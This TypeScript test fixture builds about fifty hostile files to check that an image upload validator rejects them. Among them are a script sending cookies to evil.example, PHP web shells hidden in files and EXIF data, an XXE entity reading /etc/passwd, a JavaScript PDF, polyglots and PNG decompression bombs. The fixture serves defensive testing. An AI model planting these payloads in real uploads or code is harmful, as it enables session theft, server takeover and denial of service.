import { deflateSync } from 'node:zlib';
import sharp from 'sharp';

const text = (content: string) => new TextEncoder().encode(content);
const joined = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts));
const withBytes = (bytes: Uint8Array, at: number, ...changed: number[]) => {
  const copy = new Uint8Array(bytes);
  copy.set(changed, at);
  return copy;
};

/** A real photograph-like picture: noise compresses badly, as photographs do. */
export async function photograph(
  format: 'jpeg' | 'png' | 'webp' | 'avif',
  { width = 800, height = 500 } = {},
): Promise<Uint8Array> {
  const noise = { type: 'gaussian', mean: 128, sigma: 30 } as const;
  const image = sharp({ create: { width, height, channels: 3, background: '#888888', noise } });
  const options = { jpeg: {}, png: {}, webp: { effort: 0 }, avif: { effort: 0 } }[format];
  return new Uint8Array(await image[format](options).toBuffer());
}

const SCRIPT = '<script>fetch("https://evil.example/"+document.cookie)</script>';
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;
const HTML = `<!doctype html><html><body>${SCRIPT}</body></html>`;
const PDF = '%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj';
const ZIP = new Uint8Array([0x50, 0x4b, 0x03, 0x04, ...Array.from({ length: 60 }, () => 0)]);
const ELF = new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, ...Array.from({ length: 60 }, () => 0)]);

function crc(bytes: Uint8Array): number {
  let value = 0xffffffff;
  for (const byte of bytes) {
    value ^= byte;
    for (let bit = 0; bit < 8; bit += 1) value = (value >>> 1) ^ (value & 1 ? 0xedb88320 : 0);
  }
  return (value ^ 0xffffffff) >>> 0;
}

function chunk(type: string, data: Uint8Array): Uint8Array {
  const body = joined(text(type), data);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc(body));
  return joined(length, body, sum);
}

/** A PNG that claims a size; its rows are missing or all zero, which compresses to nothing. */
function bomb(width: number, height: number, rows = 0): Uint8Array {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2, 0, 0, 0], 8);
  const data = deflateSync(Buffer.alloc(rows * (width * 3 + 1)));
  const begin = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return joined(begin, chunk('IHDR', head), chunk('IDAT', data), chunk('IEND', new Uint8Array()));
}

/** Inserts a segment with a text behind the first marker of a JPEG. */
const withComment = (jpeg: Uint8Array, marker: number, content: string) =>
  joined(jpeg.subarray(0, 2), new Uint8Array([0xff, marker, 0, content.length + 2]), text(content), jpeg.subarray(2));

/** Fifty files that staff must not be able to bring into the library, each with the reason in its name. */
export async function hostileFiles(): Promise<[name: string, bytes: Uint8Array][]> {
  const [jpeg, png, webp, avif] = await Promise.all(
    (['jpeg', 'png', 'webp', 'avif'] as const).map((one) => photograph(one)),
  );
  if (!jpeg || !png || !webp || !avif) throw new Error('no samples');
  const valid = { jpeg, png, webp, avif };
  const small = await photograph('png', { width: 1, height: 1 });
  const narrow = await photograph('jpeg', { width: 639, height: 800 });
  const flat = await photograph('webp', { width: 800, height: 100 });
  const gif = await sharp(small).gif().toBuffer();
  const tiff = await sharp(jpeg).tiff().toBuffer();
  const named = Object.entries(valid);
  return [
    ['svg with script', text(SVG)],
    ['svg after an XML declaration', text(`<?xml version="1.0"?>${SVG}`)],
    ['svg after spaces', text(`\n\n   ${SVG}`)],
    ['svg after a byte order mark', joined(new Uint8Array([0xef, 0xbb, 0xbf]), text(SVG))],
    ['svg with an external entity', text(`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${SVG}`)],
    ['html named .jpg', text(HTML)],
    ['html behind the magic bytes of a JPEG', joined(new Uint8Array([0xff, 0xd8, 0xff, 0xe0]), text(HTML))],
    ['html behind the magic bytes of a PNG', joined(png.subarray(0, 8), text(HTML))],
    ['html behind the magic bytes of a WebP', joined(webp.subarray(0, 12), text(HTML))],
    ['html behind the magic bytes of an AVIF', joined(avif.subarray(0, 12), text(HTML))],
    ['javascript', text('alert(document.domain)')],
    ['php', text('<?php system($_GET["c"]); ?>')],
    ['pdf', text(PDF)],
    ['zip', ZIP],
    ['program', ELF],
    ['gif', new Uint8Array(gif)],
    ['tiff', new Uint8Array(tiff)],
    ['bmp', joined(text('BM'), new Uint8Array(200))],
    ['icon', joined(new Uint8Array([0, 0, 1, 0]), new Uint8Array(200))],
    ['photoshop', joined(text('8BPS'), new Uint8Array(200))],
    [
      'imagemagick script',
      text('push graphic-context\nimage over 0,0 0,0 "https://evil.example/x"\npop graphic-context'),
    ],
    ['postscript', text('%!PS-Adobe-3.0\n/Times-Roman findfont')],
    ['heic, not AVIF', withBytes(avif, 8, 0x68, 0x65, 0x69, 0x63)],
    ['mp4', joined(new Uint8Array([0, 0, 0, 24]), text('ftypisom'), new Uint8Array(100))],
    ['nothing', new Uint8Array()],
    ['one byte', new Uint8Array([0xff])],
    ['only magic bytes', new Uint8Array([0xff, 0xd8, 0xff])],
    ...named.map(([type, bytes]): [string, Uint8Array] => [`truncated ${type}`, bytes.subarray(0, bytes.length >> 1)]),
    ...named.map(([type, bytes]): [string, Uint8Array] => [
      `${type} with a script behind it`,
      joined(bytes, text(HTML)),
    ]),
    ...named
      .filter(([type]) => type !== 'avif')
      .map(([type, bytes]): [string, Uint8Array] => [`${type} and zip`, joined(bytes, ZIP)]),
    ['jpeg with a script in a comment', withComment(jpeg, 0xfe, SCRIPT)],
    ['jpeg with php in its camera data', withComment(jpeg, 0xe1, 'Exif\0\0<?php eval($_POST[1]);')],
    ['jpeg with an SVG in its comment', withComment(jpeg, 0xfe, SVG.slice(0, 200))],
    [
      'png with a script in a text',
      joined(png.subarray(0, 33), chunk('tEXt', text(`Comment\0${SCRIPT}`)), png.subarray(33)),
    ],
    ['jpeg and pdf', joined(jpeg, text(PDF))],
    ['png and program', joined(png, ELF)],
    ['bomb of 900 megapixels', bomb(30_000, 30_000)],
    ['bomb of 40 gigapixels', bomb(200_000, 200_000)],
    ['bomb of the largest numbers', bomb(0x7fffffff, 0x7fffffff)],
    ['bomb of zeros, 41 megapixels', bomb(8200, 5000, 5000)],
    ['png of no width', bomb(0, 400)],
    ['png without its rows', bomb(1000, 800)],
    ['png with a wrong checksum', withBytes(png, 40, (png[40] ?? 0) ^ 0xff, (png[41] ?? 0) ^ 0xff)],
    ['picture of one pixel', small],
    ['picture too narrow', narrow],
    ['picture too flat', flat],
  ];
}
